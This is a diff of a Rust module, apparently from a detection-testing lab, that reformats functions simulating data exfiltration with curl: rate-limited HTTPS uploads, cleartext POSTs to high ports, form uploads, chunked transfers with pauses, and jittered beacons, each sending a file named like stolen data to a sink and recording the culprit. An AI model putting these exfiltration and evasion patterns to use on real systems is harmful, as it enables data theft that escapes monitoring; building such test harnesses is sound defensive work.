@@ -17,9 +17,28 @@ pub(in crate::lab) fn https_put(scene: &Scene<'_>, random: &mut Random) -> Resul
     let file = scene.document("stolen", &random.document(size))?;
     let url = format!("https://{}/up/{}", target.url_host(), random.word(9));
     let rate_text = rate.to_string();
-    scene.run("curl", &[&CURL[..], &["/dev/null", target.family_flag(), "--limit-rate", &rate_text, "--upload-file", &file, &url]].concat())?;
+    scene.run(
+        "curl",
+        &[
+            &CURL[..],
+            &[
+                "/dev/null",
+                target.family_flag(),
+                "--limit-rate",
+                &rate_text,
+                "--upload-file",
+                &file,
+                &url,
+            ],
+        ]
+        .concat(),
+    )?;
     ensure_arrived(size, scene.sunk_bytes("/up/")?)?;
-    Ok(Outcome::stolen(scene.culprit(&target, "tcp", Some(443))?, size, format!("{size} bytes at {rate} B/s to {}", target.host)))
+    Ok(Outcome::stolen(
+        scene.culprit(&target, "tcp", Some(443))?,
+        size,
+        format!("{size} bytes at {rate} B/s to {}", target.host),
+    ))
 }
 
 /// One POST in clear to a bare server on a high port, or to an ordinary one.
@@ -31,9 +50,30 @@ pub(in crate::lab) fn http_post(scene: &Scene<'_>, random: &mut Random) -> Resul
     let url = format!("http://{}:{port}/up/{}", target.url_host(), random.word(6));
     let rate_text = rate.to_string();
     let kind = "Content-Type: application/octet-stream";
-    scene.run("curl", &[&CURL[..], &["/dev/null", target.family_flag(), "--limit-rate", &rate_text, "-H", kind, "--data-binary", &body, &url]].concat())?;
+    scene.run(
+        "curl",
+        &[
+            &CURL[..],
+            &[
+                "/dev/null",
+                target.family_flag(),
+                "--limit-rate",
+                &rate_text,
+                "-H",
+                kind,
+                "--data-binary",
+                &body,
+                &url,
+            ],
+        ]
+        .concat(),
+    )?;
     ensure_arrived(size, scene.sunk_bytes("/up/")?)?;
-    Ok(Outcome::stolen(scene.culprit(&target, "tcp", Some(port))?, size, format!("{size} bytes at {rate} B/s to {}:{port}", target.host)))
+    Ok(Outcome::stolen(
+        scene.culprit(&target, "tcp", Some(port))?,
+        size,
+        format!("{size} bytes at {rate} B/s to {}:{port}", target.host),
+    ))
 }
 
 /// A form with a file in it, as paste and file-sharing sites take.
@@ -43,11 +83,22 @@ pub(in crate::lab) fn https_form(scene: &Scene<'_>, random: &mut Random) -> Resu
     let part = format!("file=@{}", scene.document("archive.zip", &random.document(size))?);
     let url = format!("https://{}/up/form", target.host);
     let rate_text = rate.to_string();
-    scene.run("curl", &[&CURL[..], &["/dev/null", "-4", "--limit-rate", &rate_text, "--form", &part, &url]].concat())?;
+    scene.run(
+        "curl",
+        &[&CURL[..], &["/dev/null", "-4", "--limit-rate", &rate_text, "--form", &part, &url]]
+            .concat(),
+    )?;
     let arrived = scene.sunk_bytes("/up/form")?;
     // The form's own lines around the file.
-    anyhow::ensure!((size..size + 1_000).contains(&arrived), "{size} bytes were sent in a form and {arrived} arrived");
-    Ok(Outcome::stolen(scene.culprit(&target, "tcp", Some(443))?, size, format!("{size} bytes at {rate} B/s to {}", target.host)))
+    anyhow::ensure!(
+        (size..size + 1_000).contains(&arrived),
+        "{size} bytes were sent in a form and {arrived} arrived"
+    );
+    Ok(Outcome::stolen(
+        scene.culprit(&target, "tcp", Some(443))?,
+        size,
+        format!("{size} bytes at {rate} B/s to {}", target.host),
+    ))
 }
 
 /// A file cut in parts, each with a connection of its own and a pause after it.
@@ -58,11 +109,19 @@ pub(in crate::lab) fn https_chunks(scene: &Scene<'_>, random: &mut Random) -> Re
     let file = scene.document("part", &random.document(part))?;
     for number in 0..parts {
         let url = format!("https://{}/up/part-{number}", target.url_host());
-        scene.run("curl", &[&CURL[..], &["/dev/null", target.family_flag(), "--upload-file", &file, &url]].concat())?;
+        scene.run(
+            "curl",
+            &[&CURL[..], &["/dev/null", target.family_flag(), "--upload-file", &file, &url]]
+                .concat(),
+        )?;
         std::thread::sleep(Duration::from_secs_f64(random.uniform(0.05, 0.9)));
     }
     ensure_arrived(part * parts, scene.sunk_bytes("/up/part")?)?;
-    Ok(Outcome::stolen(scene.culprit(&target, "tcp", Some(443))?, part * parts, format!("{parts} parts of {part} bytes to {}", target.host)))
+    Ok(Outcome::stolen(
+        scene.culprit(&target, "tcp", Some(443))?,
+        part * parts,
+        format!("{parts} parts of {part} bytes to {}", target.host),
+    ))
 }
 
 /// A few kilobytes every second or so, with and without jitter.
@@ -75,11 +134,18 @@ pub(in crate::lab) fn beacon(scene: &Scene<'_>, random: &mut Random) -> Result<O
     while start.elapsed().as_secs_f64() < super::LONGEST_SECS {
         let chunk = random.size(400, 8_000);
         let body = format!("@{}", scene.document("chunk", &random.document(chunk))?);
-        scene.run("curl", &[&CURL[..], &["/dev/null", target.family_flag(), "--data-binary", &body, &url]].concat())?;
+        scene.run(
+            "curl",
+            &[&CURL[..], &["/dev/null", target.family_flag(), "--data-binary", &body, &url]]
+                .concat(),
+        )?;
         sent += chunk;
-        std::thread::sleep(Duration::from_secs_f64(period * (1.0 + random.uniform(-jitter, jitter + f64::EPSILON))));
+        std::thread::sleep(Duration::from_secs_f64(
+            period * (1.0 + random.uniform(-jitter, jitter + f64::EPSILON)),
+        ));
     }
     ensure_arrived(sent, scene.sunk_bytes("/up/beacon")?)?;
-    let notes = format!("{sent} bytes, every {period:.2} s with jitter {jitter:.2} to {}", target.host);
+    let notes =
+        format!("{sent} bytes, every {period:.2} s with jitter {jitter:.2} to {}", target.host);
     Ok(Outcome::stolen(scene.culprit(&target, "tcp", Some(SINK_PORT))?, sent, notes))
 }
